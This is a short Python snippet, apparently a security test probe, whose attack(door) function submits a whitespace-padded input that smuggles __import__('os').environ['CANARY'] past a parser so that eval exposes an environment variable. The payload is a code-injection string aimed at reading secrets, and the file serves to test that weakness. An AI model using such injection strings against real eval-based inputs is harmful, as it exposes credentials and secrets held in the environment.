"""P1: eval strips blanks that a parser does not."""


def attack(door):
    door.value(" \t  __import__('os').environ['CANARY']")
